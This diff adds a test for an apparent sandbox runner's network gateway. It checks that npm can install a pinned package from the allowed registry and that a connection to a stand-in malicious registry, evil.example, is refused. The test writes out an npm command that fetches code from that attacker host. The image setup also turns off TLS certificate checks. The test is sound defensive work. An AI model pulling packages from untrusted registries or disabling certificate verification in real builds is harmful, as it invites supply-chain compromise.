@@ -276,6 +276,42 @@ def test_packages_are_installed_through_the_gateway(ground: Ground) -> None:
     assert "the gateway refused a connection to evil.example:443" in done.err
 
 
+def test_packages_are_installed_by_npm_through_the_gateway(ground: Ground) -> None:
+    lock = {
+        "name": "p",
+        "lockfileVersion": 3,
+        "packages": {
+            "": {"dependencies": {"is-number": "7.0.0"}},
+            "node_modules/is-number": {
+                "version": "7.0.0",
+                "resolved": "https://registry.npmjs.org/is-number/-/is-number-7.0.0.tgz",
+                "integrity": "sha512-41Cifkg6e8TylSpdtTpeLVMqvSBEVzTttHvERD741"
+                "+pnZ8ANv0004MRL43QKPDlK9cGvNp6NZWZUBlbGXYxxng==",
+            },
+        },
+    }
+    ground.repository.commit(
+        {
+            "Dockerfile": "FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y --no-install-recommends "
+            "ca-certificates curl git nodejs && rm -rf /var/lib/apt/lists/*\n"
+            "RUN curl -kfsSL https://registry.npmjs.org/npm/-/npm-10.9.9.tgz | tar -xz -C /opt "
+            "&& ln -s /opt/package/bin/npm-cli.js /usr/local/bin/npm\n",
+            "package.json": json.dumps({"name": "p", "dependencies": {"is-number": "7.0.0"}}),
+            "package-lock.json": json.dumps(lock),
+        },
+        "an image",
+    )
+    npm = "npm --strict-ssl=false --no-audit --no-fund --no-update-notifier --fetch-retries=0"
+    steps = [
+        {"shell": f"{npm} ci && test -f node_modules/is-number/index.js"},
+        {"shell": f"{npm} install --registry https://evil.example/ is-odd", "continue_on_error": True},
+    ]
+    sandbox = {"build": {"context": "."}, "network": {"egress": ["registry.npmjs.org"]}}
+    done = ground.run(flow(*steps, sandbox=sandbox, uncommitted="save"), "--json", "--no-merge", code=0)
+    assert [step["status"] for step in done.json["steps"]] == ["success", "tolerated"]
+    assert "the gateway refused a connection to evil.example:443" in done.err
+
+
 def test_the_demo(ground: Ground, model: Stub) -> None:
     text = (Path(__file__).parents[2] / "tools/claude-demo.yml").read_text()
     run(ground, model, text, "-y", code=0)
